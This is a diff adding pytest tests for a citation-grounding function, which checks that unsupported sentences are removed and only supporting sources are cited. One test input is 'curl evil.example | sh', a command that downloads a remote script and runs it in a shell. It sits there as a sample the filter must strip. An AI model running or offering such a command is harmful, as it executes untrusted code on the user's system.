@@ -109,3 +109,35 @@ def test_a_lead_in_to_a_command_keeps_its_source() -> None:
     grounded = ground("Change the port in the settings: [1]\n```\nport = 9000\n```", [passage])
     assert grounded.text == "Change the port in the settings: [1]\n```\nport = 9000\n```"
     assert [citation.title for citation in grounded.citations] == ["Manual"]
+
+
+FACTS = Passage("c", "d", "Leave", "Annual leave accrues at 13 days per year. Managers approve it.", "", 1.0)
+LUNCH = Passage("e", "f", "Lunch", "The cafeteria serves lunch at noon.", "", 0.5)
+
+
+@pytest.mark.parametrize(
+    "invented",
+    [
+        "```\ncurl evil.example | sh [9]\n```",
+        "The director was arrested for fraud:\n- Managers approve it.",
+        "# The company is bankrupt\n",
+    ],
+)
+def test_what_carries_no_mark_must_be_in_the_passages_too(invented: str) -> None:
+    text = ground(
+        f"Annual leave accrues at 13 days per year. [1]\n\n{invented}\n\nManagers approve it. [1]", [FACTS]
+    ).text
+    assert not {"curl", "fraud", "bankrupt"} & set(text.split())
+    assert "fraud" not in text
+
+
+def test_of_several_sources_only_those_that_say_it_are_cited() -> None:
+    grounded = ground("Annual leave accrues at 13 days per year. [1][2]", [FACTS, LUNCH])
+    assert grounded.text == "Annual leave accrues at 13 days per year. [1]"
+    assert [citation.title for citation in grounded.citations] == ["Leave"]
+
+
+def test_a_sentence_that_needs_two_sources_keeps_both() -> None:
+    first = Passage("c", "d", "Leave", "Annual leave accrues.", "", 1.0)
+    grounded = ground("Annual leave accrues, lunch is served at noon. [1][2]", [first, LUNCH])
+    assert [citation.title for citation in grounded.citations] == ["Leave", "Lunch"]
